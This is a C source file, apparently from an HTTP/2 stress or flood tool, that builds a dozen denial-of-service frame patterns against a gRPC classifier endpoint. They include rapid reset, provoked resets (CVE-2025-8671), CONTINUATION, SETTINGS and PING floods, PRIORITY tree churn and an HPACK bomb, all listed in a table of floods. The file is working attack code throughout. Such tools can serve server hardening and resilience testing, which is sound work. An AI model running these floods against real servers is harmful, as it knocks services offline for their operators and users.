// SPDX-License-Identifier: Apache-2.0
#include <string.h>

#include "flood.h"

static const char kClassify[] = "/vitrine.v1.Classifier/Classify";

// Adds the headers of a call to the dynamic table, on a stream that it then resets.
static void OpenWithHeaders(Connection* connection) {
  uint8_t headers[512];
  PutFrame(connection, kSettings, 0, 0, NULL, 0);
  const uint32_t stream = TakeStream(connection);
  PutFrame(connection, kHeaders, kEndHeaders, stream, headers, FirstHeaders(headers, kClassify));
  PutNumber(connection, kRstStream, stream, 8);
}

static void Call(Connection* connection, uint32_t stream, uint8_t flags) {
  uint8_t headers[16];
  PutFrame(connection, kHeaders, kEndHeaders | flags, stream, headers, NextHeaders(headers));
}

static void FillReset(Connection* connection) {
  while (RoomFor(connection, 64)) {
    const uint32_t stream = TakeStream(connection);
    Call(connection, stream, 0);
    PutNumber(connection, kRstStream, stream, 8);
  }
}

// Provokes resets in one way per connection. If the server treats this way as a connection error, the connection ends,
// and the next connection uses the next way.
static void FillProvokedReset(Connection* connection) {
  static const uint8_t kMessage[] = {0, 0, 0, 0, 0};
  connection->reads = connection->variant % 10 < 5;
  while (RoomFor(connection, 128)) {
    const uint32_t stream = TakeStream(connection);
    const int way = connection->variant % 5;
    Call(connection, stream, way == 1 || way == 2 ? kEndStream : 0);
    if (way == 0) PutNumber(connection, kWindowUpdate, stream, 0);
    if (way == 1) PutFrame(connection, kData, 0, stream, kMessage, sizeof kMessage);
    if (way == 2) Call(connection, stream, kEndStream);
    if (way == 3) {
      const uint8_t itself[] = {0, 0, 0, 0, 15};
      uint8_t body[5];
      memcpy(body, itself, sizeof body);
      for (int i = 0; i < 4; ++i) body[i] = (uint8_t)(stream >> (24 - 8 * i));
      PutFrame(connection, kPriority, 0, stream, body, sizeof body);
    }
    if (way == 4) PutNumber(connection, kWindowUpdate, stream, 0x7fffffff);
  }
}

static void OpenContinuation(Connection* connection) {
  uint8_t headers[512];
  PutFrame(connection, kSettings, 0, 0, NULL, 0);
  PutFrame(connection, kHeaders, 0, TakeStream(connection), headers, FirstHeaders(headers, kClassify));
}

static void FillContinuation(Connection* connection) {
  uint8_t field[128];
  const size_t size =
      PutField(field, false, "x-name", "some value of sixty bytes, which fills the list of the headers");
  while (RoomFor(connection, 160)) PutFrame(connection, kContinuation, 0, 1, field, connection->variant % 2 ? size : 0);
}

static void OpenSettings(Connection* connection) {
  OpenWithHeaders(connection);
  if (connection->variant % 4 == 1)  // the server must apply each change of the window to all these streams
    for (int i = 0; i < 90; ++i) Call(connection, TakeStream(connection), 0);
}

static void FillSettings(Connection* connection) {
  connection->reads = connection->variant % 4 != 3;
  for (uint8_t turn = 0; RoomFor(connection, 32); turn ^= 1) {
    const uint8_t window[] = {0, 4, 0, 0, 0x40, turn}, table[] = {0, 1, 0, 0, (uint8_t)(turn * 16), 0};
    const int way = connection->variant % 4;
    PutFrame(connection, kSettings, 0, 0, way == 1 ? window : table, way == 1 || way == 2 ? 6 : 0);
  }
}

static void FillPing(Connection* connection) {
  connection->reads = connection->variant % 2 == 0;
  while (RoomFor(connection, 32)) PutFrame(connection, kPing, 0, 0, "flooding", 8);
}

static void OpenStreams(Connection* connection) {
  OpenWithHeaders(connection);
  for (int i = 0; i < 90; ++i) Call(connection, TakeStream(connection), 0);
}

static void FillEmptyData(Connection* connection) {
  for (uint32_t i = 0; RoomFor(connection, 32); ++i) {
    const bool is_padded = connection->variant % 4 == 3 && connection->send_window-- > 0;
    PutFrame(connection, kData, is_padded ? kPadded : 0, connection->variant % 2 ? 3 + i % 90 * 2 : 3, "", is_padded);
  }
}

static void FillEmptyHeaders(Connection* connection) {
  while (RoomFor(connection, 96)) {
    const uint32_t stream = TakeStream(connection);
    const int way = connection->variant % 3;
    if (way > 0) Call(connection, stream, 0);
    PutFrame(connection, kHeaders, kEndHeaders | (way != 2 ? kEndStream : 0), stream, NULL, 0);
    if (way != 0) PutNumber(connection, kRstStream, stream, 8);
  }
}

// Adds fifty binary headers (base64) to the dynamic table. Later requests refer to each of these headers with one byte.
static void OpenBinary(Connection* connection) {
  uint8_t headers[4096];
  char name[] = "a0-bin";
  PutFrame(connection, kSettings, 0, 0, NULL, 0);
  size_t size = FirstHeaders(headers, kClassify);
  for (int i = 0; i < 50; ++i) {
    name[0] = (char)('a' + i % 26), name[1] = (char)('0' + i / 26);
    size += PutField(headers + size, true, name, "AAECAwQFBgcICQoLDA0ODw==");
  }
  const uint32_t stream = TakeStream(connection);
  PutFrame(connection, kHeaders, kEndHeaders, stream, headers, size);
  PutNumber(connection, kRstStream, stream, 8);
}

static void FillBinary(Connection* connection) {
  uint8_t headers[64] = {0x83, 0x86};
  for (size_t i = 0; i < 54; ++i) headers[2 + i] = (uint8_t)(0x80 + 62 + 53 - i);
  while (RoomFor(connection, 128)) {
    const uint32_t stream = TakeStream(connection);
    PutFrame(connection, kHeaders, kEndHeaders | (connection->variant % 2 ? kEndStream : 0), stream, headers, 56);
    PutNumber(connection, kRstStream, stream, 8);
  }
}

static void FillWindowUpdate(Connection* connection) {
  const int way = connection->variant % 3;  // updates the connection, an open stream or a closed stream
  while (RoomFor(connection, 32)) PutNumber(connection, kWindowUpdate, way == 0 ? 0 : way == 1 ? 3 : 1, 1);
}

static void FillPriority(Connection* connection) {
  const bool is_idle = connection->variant % 2;
  for (uint32_t i = 0; RoomFor(connection, 32); ++i) {
    const uint32_t stream = is_idle ? 1001 + i % 50000 * 2 : 3 + i % 90 * 2,
                   parent = is_idle ? 0 : 3 + (i + 1) % 90 * 2;
    // An exclusive dependency. A server that keeps a priority tree must move the whole tree.
    const uint8_t body[] = {0x80, 0, (uint8_t)(parent >> 8), (uint8_t)parent, 15};
    PutFrame(connection, kPriority, 0, stream, body, sizeof body);
  }
}

static void OpenBomb(Connection* connection) {
  static char value[3900];
  static uint8_t headers[4400];
  memset(value, 'a', sizeof value - 1);
  PutFrame(connection, kSettings, 0, 0, NULL, 0);
  size_t size = FirstHeaders(headers, kClassify);
  size += PutField(headers + size, true, "x-big", value);  // evicts the other entries from the table
  PutFrame(connection, kHeaders, kEndHeaders | kEndStream, TakeStream(connection), headers, size);
}

static void FillBomb(Connection* connection) {
  uint8_t block[16384] = {0x83, 0x86};
  size_t size = 2;
  size += PutField(block + size, false, ":path", kClassify);
  size += PutField(block + size, false, "content-type", "application/grpc");
  size += PutField(block + size, false, "te", "trailers");
  memset(block + size, 0x80 + 62, 16000);
  while (RoomFor(connection, sizeof block + 64)) {
    const uint32_t stream = TakeStream(connection);
    PutFrame(connection, kHeaders, kEndHeaders | kEndStream, stream, block, size + 16000);
    PutNumber(connection, kRstStream, stream, 8);
  }
}

// Sends frames that a receiver may ignore. Stream 1 is closed.
static void FillIgnored(Connection* connection) {
  static const uint8_t kUpdate[] = {0, 0, 0, 3, 'u', '=', '1'};  // the priority of stream 3
  const int way = connection->variant % 4;
  while (RoomFor(connection, 32)) {
    if (way == 0) PutFrame(connection, kData, 0, 1, "", 0);
    if (way == 1 && connection->send_window <= 0) return;
    if (way == 1) {
      PutFrame(connection, kData, 0, 1, "x", 1);
      --connection->send_window;
    }
    if (way == 2) PutFrame(connection, kUnknownType, 0, 0, "", 0);
    if (way == 3) PutFrame(connection, kPriorityUpdate, 0, 0, kUpdate, sizeof kUpdate);
  }
}

const Flood kFrameFloods[] = {
    {"reset", "HEADERS and RST_STREAM, 33 bytes a call", 1, 0, false, false, OpenWithHeaders, FillReset, NULL, NULL},
    {"provoked-reset", "breaches that make the server reset (CVE-2025-8671)", 1, 0, false, false, OpenWithHeaders,
     FillProvokedReset, NULL, NULL},
    {"continuation", "CONTINUATION without end, empty or with fields", 1, 0, false, true, OpenContinuation,
     FillContinuation, NULL, NULL},
    {"settings", "SETTINGS: empty, window, table size; one in four reads nothing", 1, 0, false, false, OpenSettings,
     FillSettings, NULL, NULL},
    {"ping", "PING; one in two reads nothing", 1, 0, false, false, OpenWithHeaders, FillPing, NULL, NULL},
    {"empty-data", "empty DATA on one stream or on 90, padded too", 1, 0, false, false, OpenStreams, FillEmptyData,
     NULL, NULL},
    {"empty-headers", "HEADERS without a field: calls, trailers, trailers that end nothing", 1, 0, false, false,
     OpenWithHeaders, FillEmptyHeaders, NULL, NULL},
    {"binary-headers", "50 -bin headers a call, a byte each", 1, 0, false, false, OpenBinary, FillBinary, NULL, NULL},
    {"window-update", "WINDOW_UPDATE of 1: connection, open stream, closed stream", 1, 0, false, false, OpenStreams,
     FillWindowUpdate, NULL, NULL},
    {"priority", "PRIORITY of open streams, exclusive, and of idle ones", 1, 0, false, false, OpenStreams, FillPriority,
     NULL, NULL},
    {"hpack-bomb", "3,900 bytes of the table referred to 16,000 times a call", 1, 0, false, false, OpenBomb, FillBomb,
     NULL, NULL},
    {"ignored", "DATA of 0 or 1 byte on a closed stream, an unknown type, PRIORITY_UPDATE", 1, 0, false, false,
     OpenWithHeaders, FillIgnored, NULL, NULL},
    {0}};
